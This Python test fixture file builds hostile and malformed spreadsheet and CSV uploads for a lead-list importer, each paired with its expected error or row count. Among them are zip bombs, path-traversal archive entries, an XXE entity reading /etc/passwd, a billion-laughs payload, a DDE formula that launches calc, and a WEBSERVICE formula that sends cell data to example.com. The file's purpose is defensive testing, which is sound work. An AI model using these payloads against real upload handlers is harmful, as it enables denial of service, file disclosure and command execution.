"""Files that people and attackers send as lists of leads: each made by a function, with the answer it must get."""

from __future__ import annotations

import gzip
import io
import os
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import xlsxwriter

HEAD = ("公司名称", "统一社会信用代码", "联系电话", "注册地址")
ROWS = (
    ("杭州云图科技有限公司", "", "13800000001", "文三路1号"),
    ("杭州禾安茶业有限公司", "", "13800000002", "文三路2号"),
)
CSV = "\n".join(",".join(row) for row in (HEAD, *ROWS)) + "\n"
SPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
MANY = 1_100_001


# -- workbooks -----------------------------------------------------------------------------------------------------------
def workbook(fill: Callable[[Any, Any], None] | None = None, **options: Any) -> bytes:
    """A workbook of the two rows, or of what `fill(book, sheet)` writes."""
    target = io.BytesIO()
    with xlsxwriter.Workbook(target, {"in_memory": True, **options}) as book:
        sheet = book.add_worksheet("Leads")
        if fill:
            fill(book, sheet)
        else:
            _rows(book, sheet)
    return target.getvalue()


def _rows(_book: Any, sheet: Any) -> None:
    for number, row in enumerate((HEAD, *ROWS)):
        sheet.write_row(number, 0, row)


def changed(parts: dict[str, bytes | str], *, book: bytes | None = None) -> bytes:
    """A workbook with parts replaced or added by the end of their names."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(book or workbook())) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, next((parts[end] for end in parts if name.endswith(end)), old.read(name)))
        for name, content in parts.items():
            if not any(known.endswith(name) for known in old.namelist()):
                new.writestr(name, content)
    return target.getvalue()


def sheet_of(cells: str) -> bytes:
    return changed({"sheet1.xml": f"<worksheet {SPACE}><sheetData>{cells}</sheetData></worksheet>"})


def _with_flag(book: bytes, *, flag: int) -> bytes:
    """The same zip with a bit set in the flags of every part: bit 0 says that it is encrypted."""
    content = bytearray(book)
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(magic)
        while place >= 0:
            content[place + offset] |= flag
            place = content.find(magic, place + 4)
    return bytes(content)


def _lying() -> bytes:
    """A bomb whose directory says that the sheet has a hundred bytes."""
    content = bytearray(_bomb())
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        size = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    return bytes(content.replace(struct.pack("<L", size), struct.pack("<L", 100)))


def _bomb() -> bytes:
    return sheet_of(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>' + "a" * 50 + "</t></is></c></row>" * 1 + "<row/>" * 12_000_000
    )


def _broken_sum() -> bytes:
    content = bytearray(workbook())
    place = content.find(b"xl/worksheets/sheet1.xml") - 30
    content[place + 14] ^= 0xFF
    return bytes(content)


def _nested() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as outer:
        outer.writestr("leads.xlsx", workbook())
    return target.getvalue()


def _twice() -> bytes:
    target = io.BytesIO(workbook())
    with zipfile.ZipFile(target, "a") as book:
        book.NameToInfo.clear()
        book.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    return target.getvalue()


def _formulas(_book: Any, sheet: Any) -> None:
    sheet.write_row(0, 0, HEAD)
    sheet.write_formula(1, 0, '="杭州云图"&"科技有限公司"', None, "杭州云图科技有限公司")
    sheet.write_formula(1, 2, "=13800000000+1", None, 13800000001)
    sheet.write_formula(2, 0, '=WEBSERVICE("http://example.com/"&A2)', None, "#VALUE!")
    sheet.write_string(2, 3, "文三路2号")


def _outside(_book: Any, sheet: Any) -> None:
    _rows(_book, sheet)
    sheet.write_formula(3, 0, "='[http://example.com/prices.xlsx]Sheet1'!A1", None, "杭州外链贸易有限公司")
    sheet.write_string(3, 2, "13800000003")
    sheet.write_url(4, 0, "file:///etc/passwd", string="杭州链接贸易有限公司")
    sheet.write_string(4, 2, "13800000004")


def _merged(_book: Any, sheet: Any) -> None:
    sheet.merge_range(0, 0, 0, 3, "二〇二六年展会名单")
    for number, row in enumerate((HEAD, *ROWS), 1):
        sheet.write_row(number, 0, row)
    sheet.merge_range(4, 0, 4, 3, "以上由市场部提供")


def _wide(_book: Any, sheet: Any) -> None:
    _rows(_book, sheet)
    for column in range(4, 16_384):
        sheet.write_string(0, column, f"列{column}")


def _corner(_book: Any, sheet: Any) -> None:
    sheet.write(0, 0, "a")
    sheet.write(1_048_575, 16_383, "x")


def _long_cell(_book: Any, sheet: Any) -> None:
    _rows(_book, sheet)
    sheet.write_row(3, 0, ("长" * 32_000, "", "13800000009", ""))


def _many_rows() -> bytes:
    return sheet_of("".join(f'<row r="{n}"><c r="A{n}"><v>{n * 7919}</v></c></row>' for n in range(1, 300_000)))


# -- old workbooks (compound files) --------------------------------------------------------------------------------------
def compound(streams: dict[str, bytes]) -> bytes:
    """A compound file (MS-CFB, version 3) of a few streams of at most 60 sectors each."""
    sector, end, fat_mark = 512, 0xFFFFFFFE, 0xFFFFFFFD
    fat, body, entries = [fat_mark, end], b"", [_entry("Root Entry", 5, end, 0, child=1)]
    for number, (name, stream) in enumerate(streams.items(), 1):
        padded = stream.ljust(max(4096, -(-len(stream) // sector) * sector), b"\0")
        start, count = len(fat), len(padded) // sector
        fat += [*range(start + 1, start + count), end]
        body += padded
        entries.append(_entry(name, 2, start, len(padded), right=number + 1 if number < len(streams) else 0xFFFFFFFF))
    table = struct.pack(f"<{len(fat)}L", *fat).ljust(sector, b"\xff")
    directory = b"".join(entries).ljust(sector, b"\0")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH6xLLLLLLLLLL", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, end, 0, end, 0, 0)
    return header.ljust(sector, b"\xff") + table + directory + body


def _entry(name: str, kind: int, start: int, size: int, *, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF) -> bytes:
    coded = (name + "\0").encode("utf-16-le")
    head = coded.ljust(64, b"\0") + struct.pack("<HBBLLL", len(coded), kind, 1, 0xFFFFFFFF, right, child)
    return (head + bytes(36) + struct.pack("<LQ", start, size)).ljust(128, b"\0")


def biff(*records: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<HH", kind, len(content)) + content for kind, content in records)


BEGIN = (0x0809, struct.pack("<HHHHLL", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0x41, 6))
LOCKED = (0x002F, struct.pack("<HHHHHH", 1, 1, 1, 0, 0, 0) + bytes(48))
END = (0x000A, b"")
STRINGS = (0x00FC, struct.pack("<LL", 0xFFFFFFF0, 0xFFFFFFF0) + b"\xff" * 12)


# -- texts ---------------------------------------------------------------------------------------------------------------
def text(*lines: str, head: tuple[str, ...] = HEAD, end: str = "\n", by: str = ",") -> str:
    return end.join((by.join(head), *lines)) + end


def _mixed() -> bytes:
    good = "".join(f"杭州云图第{n}号科技有限公司,,13800001{n:03},\n" for n in range(300))
    return (",".join(HEAD) + "\n").encode() + "杭州乱码贸易有限公司,,13800000009,\n".encode("gbk") + good.encode()


def _many_lines() -> bytes:
    return (",".join(HEAD) + "\n").encode() + b"x,,13800000001,\n" * MANY


def _broken_quote() -> str:
    return text('"杭州云图科技有限公司,,13800000001,文三路1号', *(",".join(row) for row in ROWS))


# name → (makes the file, the error of the file | (new, known, faulty) rows of a file that is read)
Answer = str | tuple[int, int, int]
FILES: dict[str, tuple[Callable[[], bytes], Answer]] = {
    # what is no table
    "random bytes": (lambda: b"\x00\x01" + os.urandom(5000), "UNREADABLE"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), "UNREADABLE"),
    "a PDF": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"0 0 obj\n" * 50, "UNREADABLE"),
    "a packed text": (lambda: gzip.compress(CSV.encode()), "UNREADABLE"),
    "a web page named xls": (lambda: f"<html><table><tr><td>{HEAD[0]}</table></html>".encode("gbk"), "WEB_PAGE"),
    "a workbook as XML of 2003": (lambda: b'<?xml version="1.0"?><Workbook/>', "WEB_PAGE"),
    "a byte order mark alone": (lambda: b"\xef\xbb\xbf", "EMPTY"),
    "blank lines alone": (lambda: b"\r\n \r\n\t\r\n" * 50, "EMPTY"),
    "one column": (lambda: b"one column only\nx\ny\n", "NO_TABLE"),
    # zips
    "a zip's header alone": (lambda: b"PK\x03\x04" + b"z" * 300, "UNREADABLE"),
    "a workbook cut off": (lambda: workbook()[:3000], "UNREADABLE"),
    "a zip in a zip": (_nested, "UNREADABLE"),
    "a part with a wrong sum": (_broken_sum, (2, 0, 0)),
    "locked parts": (lambda: _with_flag(workbook(), flag=1), "PROTECTED"),
    "six thousand parts": (lambda: changed({f"xl/media/{n}.png": b"" for n in range(6000)}), "TOO_LARGE"),
    "a bomb": (_bomb, "TOO_LARGE"),
    "a bomb that lies about its size": (_lying, "UNREADABLE"),
    "names that climb out": (lambda: changed({"../../../../tmp/climbed.xml": b"<a/>"}), (2, 0, 0)),
    "the sheet twice": (_twice, "EMPTY"),
    # XML
    "a document type": (lambda: changed({"sheet1.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x/>'}), "DOCUMENT_TYPE"),
    "a billion laughs": (lambda: changed({"sharedStrings.xml": f'<!DOCTYPE l [<!ENTITY l0 "ha">{LAUGHS}]><sst {SPACE}><si><t>&l8;</t></si></sst>'}), "DOCUMENT_TYPE"),
    "a document type in UTF-16": (lambda: changed({"sheet1.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16")}), "DOCUMENT_TYPE"),
    "a document type behind a long comment": (lambda: changed({"sheet1.xml": f"<!--{'<x>' * 90_000}--><!DOCTYPE x [<!ENTITY e 'y'>]><x/>"}), "DOCUMENT_TYPE"),
    "text that is not there": (lambda: sheet_of('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>'), "UNREADABLE"),
    "XML that does not end": (lambda: changed({"sheet1.xml": f"<worksheet {SPACE}><sheetData><row"}), "UNREADABLE"),
    # sheets
    "no row": (lambda: workbook(lambda _book, _sheet: None), "EMPTY"),
    "a cell in the last corner": (lambda: workbook(_corner), "TOO_LARGE"),
    "16,384 columns": (lambda: workbook(_wide), (2, 0, 0)),
    "300,000 rows": (_many_rows, "NO_TABLE"),
    "a cell of 32,000 characters": (lambda: workbook(_long_cell), (2, 0, 1)),
    "formulas": (lambda: workbook(_formulas), (1, 0, 1)),
    "links to elsewhere": (lambda: workbook(_outside), (4, 0, 0)),
    "macros": (lambda: changed({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}), (2, 0, 0)),
    "merged cells around the table": (lambda: workbook(_merged), (2, 0, 1)),
    # old workbooks
    "an old workbook cut off": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "UNREADABLE"),
    "a workbook with a password": (lambda: compound({"EncryptionInfo": b"\x04\0\4\0", "EncryptedPackage": os.urandom(900)}), "PROTECTED"),
    "an old workbook with a password": (lambda: compound({"Workbook": biff(BEGIN, LOCKED, END)}), "PROTECTED"),
    "an old workbook of broken records": (lambda: compound({"Workbook": biff(BEGIN) + b"\xff\xff\xff\x7f" * 90}), "UNREADABLE"),
    "an old workbook with four billion texts": (lambda: compound({"Workbook": biff(BEGIN, STRINGS, END)}), "UNREADABLE"),
    "a letter of Word": (lambda: compound({"WordDocument": bytes(900)}), "UNREADABLE"),
    # texts
    "UTF-16, the big end first": (lambda: CSV.encode("utf-16-be"), (2, 0, 0)),
    "UTF-7": (lambda: CSV.encode("utf-7"), "NAME_NOT_MAPPED"),
    "two encodings": (_mixed, (300, 0, 1)),
    "zero bytes": (lambda: text("杭州云\0图科技有限公司,,13800000001,", ",".join(ROWS[1])).encode(), "UNREADABLE"),
    "lines that end with CR": (lambda: text(*(",".join(row) for row in ROWS), end="\r").encode("gbk"), (2, 0, 0)),
    "a quote that is not closed": (lambda: _broken_quote().encode(), (0, 0, 1)),
    "a line of 3 MB": (lambda: text("长" * 1_000_000, ",".join(ROWS[1])).encode(), (1, 0, 1)),
    "5,000 cells in a row": (lambda: text(",".join(ROWS[0]) + ",x" * 5000, ",".join(ROWS[1])).encode(), (2, 0, 0)),
    "1,100,001 rows": (_many_lines, "TOO_MANY_ROWS"),
    "the same header twice": (lambda: text(*(",".join(row[:3]) + ",另一家公司" for row in ROWS), head=(*HEAD[:3], HEAD[0])).encode(), (2, 0, 0)),
    "live cells": (lambda: text("=cmd|'/c calc'!A1,,13800000001,", '"=HYPERLINK(""http://x"")",,,路1号').encode(), (2, 0, 0)),
    "characters that turn the line around": (lambda: text("\u202e司公限有\u202c,,13800000001,", "\u200b\u200b,,13800000002,").encode(), (1, 0, 1)),
    "a header alone": (lambda: text().encode(), (0, 0, 0)),
    "cells between bars": (lambda: text(*("|".join(row) for row in ROWS), by="|").encode("gb18030"), (2, 0, 0)),
}  # fmt: skip
